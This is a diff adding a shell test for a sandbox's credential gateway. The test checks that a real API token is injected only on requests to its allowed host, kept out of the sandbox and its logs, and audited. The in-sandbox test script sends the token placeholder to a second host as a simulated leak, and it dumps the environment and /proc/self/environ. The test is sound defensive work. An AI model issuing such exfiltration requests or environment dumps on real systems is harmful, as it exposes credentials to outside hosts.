@@ -473,3 +473,52 @@ git commit -q --allow-empty -m "from the sandbox" && git push -q origin HEAD:mai
     expect_eq "... the commit reached the upstream repository" "from the sandbox" \
         "$(git -C "$T/git/repo.git" log -1 --format=%s main 2>/dev/null)"
 fi
+
+# A static credential: the sandbox holds a placeholder; the gateway puts the real value on
+# requests to the credential's hosts, and refuses a request that carries the placeholder
+# anywhere else. The value is nowhere in the sandbox, its output, or the audit log.
+real="real-token-$RANDOM$RANDOM$RANDOM"
+printf '%s\n' "$real" | HOME="$TEST_HOME" "$PADDOCK" secret set api_token >/dev/null
+cat >"$T/cred.yaml" <<EOF2
+version: 1
+network:
+  rules:
+    - {host: api.test, decision: allow}
+    - {host: "*.cdn.test", decision: allow}
+  resolve:
+    "api.test:80": "127.0.0.1:$HTTP_PORT"
+    "img.cdn.test:80": "127.0.0.1:$HTTP_PORT"
+credentials:
+  - name: api
+    provider: static
+    value: {secret: api_token}
+    hosts: [api.test]
+    inject: {header: Authorization, value: "Bearer {token}"}
+    placeholder: {env: API_TOKEN}
+EOF2
+: >"$T/upstream.log"
+cat >"$WS/cred.sh" <<'EOF2'
+echo "placeholder $(printf %s "$API_TOKEN" | cut -c1-7)"
+curl -sS --max-time 20 -o /dev/null -w '%{http_code}\n' http://api.test/v1/injected
+curl -sS --max-time 20 -o /dev/null -w '%{http_code}\n' -H "X-Api-Key: $API_TOKEN" http://api.test/v1/replaced
+curl -sS --max-time 20 -w '\n' -H "X-Api-Key: $API_TOKEN" http://img.cdn.test/v1/leak
+env; cat /proc/self/environ | tr '\0' '\n'
+EOF2
+wrun --policy "$T/cred.yaml" -- sh ./cred.sh
+expect_eq "the sandbox holds a placeholder" "placeholder pdk-ph-" "$(printf '%s\n' "$OUT" | sed -n 1p)"
+expect_eq "a request to the credential's host goes out" 200 "$(printf '%s\n' "$OUT" | sed -n 2p)"
+expect_match "... with the real value injected" \
+    "\"path\": \"/v1/injected\".*\"Authorization\": \"Bearer $real\"" "$(cat "$T/upstream.log")"
+expect_match "the placeholder in a header is replaced by the value" \
+    "\"path\": \"/v1/replaced\".*\"X-Api-Key\": \"$real\"" "$(cat "$T/upstream.log")"
+expect_match "the placeholder toward another host: refused" \
+    '"error":"blocked".*placeholder of credential api' "$(printf '%s\n' "$OUT" | sed -n 4p)"
+expect_eq "... and it never reached that host" 0 "$(grep -c '/v1/leak' "$T/upstream.log")"
+expect_no_match "the real value is nowhere in the sandbox's environment or output" "$real" "$OUT$ERR"
+pdk audit --json
+expect_match "the attempt is recorded" '"kind":"credential.exfiltration"' "$OUT"
+expect_match "... and the uses" '"kind":"credential.used"' "$OUT"
+expect_no_match "the real value is nowhere in the audit log" "$real" "$OUT"
+expect_eq "... nor in the store's file" 0 "$(grep -c "$real" "$STATE/paddock.db" "$STATE"/audit-spool/* 2>/dev/null | awk -F: '{s+=$NF} END {print s+0}')"
+pdk secret list --json
+expect_ne "the vault records the credential's use" "None" "$(json_get "$OUT" 'j["used_ns"]')"
